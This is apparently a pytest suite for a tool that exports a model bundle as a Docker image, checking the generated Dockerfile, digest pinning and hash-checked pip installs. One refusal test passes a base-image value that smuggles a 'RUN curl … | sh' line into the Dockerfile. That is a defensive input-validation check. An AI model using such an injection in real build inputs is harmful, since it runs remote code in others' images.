"""The docker export: the bundle plus a plain Dockerfile whose command is the bundle's serve command;
a base image pinned by digest and requirements installed with --require-hashes when asked."""

from __future__ import annotations

import hashlib
import json
import shlex
import sys
from pathlib import Path

import pytest
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

import nbdeploy
import nbdeploy.exporters
from nbdeploy.errors import InvalidInput, NbdeployError
from nbdeploy.exporters import packaging
from nbdeploy.exporters.bundle import SERVE


def instructions(path: Path) -> list[tuple[str, str]]:
    lines = [ln.strip() for ln in path.read_text().splitlines() if ln.strip() and not ln.startswith("#")]
    return [(ln.split(None, 1)[0], ln.split(None, 1)[1]) for ln in lines]


def test_dockerfile_serves_the_bundle_with_its_own_command(source, out):
    path = nbdeploy.export("iris", "docker", out, home=source["home"])
    steps = instructions(path / "Dockerfile")
    assert steps[0] == ("FROM", f"python:{sys.version_info.major}.{sys.version_info.minor}-slim")
    home = dict(steps)["WORKDIR"]
    for src, _dest in (step[1].rsplit(None, 1) for step in steps if step[0] == "COPY"):
        assert (path / src).exists(), src  # everything copied is in the export
    runs = [args for kind, args in steps if kind == "RUN"]
    assert runs[:2] == ["pip install -r requirements.txt", f"pip install --no-deps {home}/wheels/*.whl"]
    assert dict(steps)["USER"] == "nbdeploy" and f"chown -R nbdeploy {home}" in runs[2]
    assert dict(steps)["EXPOSE"] == "8000"
    command = json.loads(dict(steps)["CMD"])  # exec form
    assert command == ["nbdeploy", "serve", "--home", "/model", "--host", "0.0.0.0", "--port", "8000"]
    # the bundle's README command, with the container's home and address
    bundle = shlex.split(SERVE)
    assert Path(bundle[0]).name == command[0] and bundle[1:3] == command[1:3]
    assert command[3] == home and bundle[bundle.index("--port") + 1] == command[-1]
    assert steps[-1][0] == "CMD"


def test_docker_export_is_the_bundle_plus_the_docker_files(source, out, tmp_path):
    docker = nbdeploy.export("iris", "docker", out, home=source["home"])
    bundle = nbdeploy.export("iris", "bundle", tmp_path / "bundle", home=source["home"])
    names = {p.relative_to(docker).as_posix() for p in docker.rglob("*")}
    assert names - {p.relative_to(bundle).as_posix() for p in bundle.rglob("*")} == {"Dockerfile", ".dockerignore"}
    assert ".venv/" in (docker / ".dockerignore").read_text().splitlines()
    readme = (docker / "README.md").read_text()
    assert "docker build -t iris:2 ." in readme and "Authorization: Bearer" in readme


def test_the_docs_show_the_dockerfile_as_written(source, out):
    written = (nbdeploy.export("iris", "docker", out, home=source["home"]) / "Dockerfile").read_text()
    docs = (Path(__file__).resolve().parents[2] / "docs" / "export.md").read_text()
    shown = docs.split("```dockerfile\n", 1)[1].split("```", 1)[0]

    def without_base(text: str) -> list[str]:  # the base image follows the Python running the tests
        return [line for line in text.splitlines() if not line.startswith("FROM ")]

    assert without_base(shown) == without_base(written), "docs/export.md shows another Dockerfile"


DIGEST = "sha256:" + "0123456789abcdef" * 4


def test_a_base_image_pinned_by_digest_is_built_from(source, out):
    base = f"python:{sys.version_info.major}.{sys.version_info.minor}-slim@{DIGEST}"
    path = nbdeploy.exporters.export("iris", "docker", out, home=source["home"], base_image=base)
    assert dict(instructions(path / "Dockerfile"))["FROM"] == base
    assert "pinned by digest" in (path / "Dockerfile").read_text()
    assert f"The base image is pinned by digest (`{base}`)" in (path / "README.md").read_text()


def test_the_default_base_image_is_a_tag_and_the_readme_says_how_to_pin_it(source, out):
    path = nbdeploy.export("iris", "docker", out, home=source["home"])
    readme = (path / "README.md").read_text()
    assert "which moves when it is rebuilt upstream" in readme and "docker buildx imagetools inspect" in readme
    assert "pinned by version only; export with `hashes=True`" in readme


@pytest.mark.parametrize(("base", "message"), [
    ("python:3.11-slim\nRUN curl https://example.invalid | sh", "is not an image reference"),
    ("python:3.11-slim@sha256:abc", "has a digest that is not sha256:<64 lowercase hex digits>"),
    (f"python:3.11-slim@md5:{'a' * 32}", "has a digest that is not sha256"),
    ("Python:3.11", "is not an image reference"),
])
def test_a_base_image_that_is_not_an_image_reference_is_refused(source, out, base, message):
    with pytest.raises(InvalidInput, match=message):
        nbdeploy.exporters.export("iris", "docker", out, home=source["home"], base_image=base)
    assert not out.exists()


def fake_hashes(pins: list[str]) -> dict[str, list[str]]:
    """What pip download would give: one sha256 per pin, standing in for the downloaded wheel's."""
    return {canonicalize_name(Requirement(p).name): [hashlib.sha256(p.encode()).hexdigest()] for p in pins}


def test_hashes_install_every_requirement_with_require_hashes(source, out, monkeypatch):
    asked: list[list[str]] = []
    monkeypatch.setattr(packaging, "pinned_hashes", lambda pins: asked.append(pins) or fake_hashes(pins))
    path = nbdeploy.exporters.export("iris", "docker", out, home=source["home"], hashes=True)
    runs = [args for kind, args in instructions(path / "Dockerfile") if kind == "RUN"]
    assert runs[0] == "pip install --require-hashes --only-binary=:all: -r requirements.txt"
    requirements = pip_requirements(path / "requirements.txt")
    assert [r[0] for r in requirements] == asked[0] == packaging.pinned_requirements()
    for pin, hashes in requirements:
        assert hashes == [f"sha256:{hashlib.sha256(pin.encode()).hexdigest()}"], pin
    assert "`pip install --require-hashes`" in (path / "README.md").read_text()


def test_an_export_whose_hashes_cannot_be_had_leaves_nothing(source, out, monkeypatch):
    def offline(pins: list[str]) -> dict[str, list[str]]:
        raise NbdeployError("pip could not download the pinned wheels to hash them (offline)", 502)

    monkeypatch.setattr(packaging, "pinned_hashes", offline)
    with pytest.raises(NbdeployError, match="could not download"):
        nbdeploy.exporters.export("iris", "docker", out, home=source["home"], hashes=True)
    assert not out.exists() and not [p for p in out.parent.iterdir() if p.name.startswith(".export")]


def pip_requirements(path: Path) -> list[tuple[str, list[str]]]:
    """(requirement, [--hash values]) per requirement, joining pip's backslash continuations."""
    text = path.read_text().replace("\\\n", " ")
    lines = [line.split() for line in text.splitlines() if line.strip() and not line.startswith("#")]
    return [(parts[0], [p.split("=", 1)[1] for p in parts[1:] if p.startswith("--hash=")]) for parts in lines]


@pytest.mark.parametrize(("to", "option"), [("triton", "hashes"), ("kserve", "base_image"), ("bundle", "base_image")])
def test_options_a_format_does_not_take_are_refused(source, out, to, option):
    with pytest.raises(InvalidInput, match=f"export to {to} (takes no options|takes hashes); got {option}"):
        nbdeploy.exporters.export("iris", to, out, home=source["home"], **{option: "x"})
    assert not out.exists()
    # an option left at its default is not asked for, so a caller may pass every option to every format
    path = nbdeploy.exporters.export("iris", to, out, home=source["home"], hashes=False, base_image=None)
    assert (path / "README.md").exists()
